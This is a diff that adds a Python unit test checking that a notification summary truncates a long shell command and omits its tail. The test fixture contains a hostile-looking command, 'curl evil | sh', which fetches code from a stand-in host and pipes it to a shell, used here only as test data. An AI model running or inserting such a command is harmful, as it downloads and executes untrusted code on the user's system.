@@ -75,6 +75,14 @@ def test_a_notification_names_the_page_only_while_it_runs(rsk_env: object, proje
     assert summary(card, project)["page"] is None
 
 
+def test_a_notification_says_when_it_cuts_the_command(rsk_env: object, project: str) -> None:
+    from rsk.ledger.notify import summary
+
+    card = file_card(project, argv=["sh", "-c", "x" * 190 + " ; curl evil | sh"])
+    text = str(summary(card, project)["summary"])
+    assert "more characters: see the card" in text and "curl" not in text
+
+
 def test_gpu_holders_named_by_jobs_are_text() -> None:
     from rsk.ops.gpus import Gpu, GpuInventory, GpuNode
 
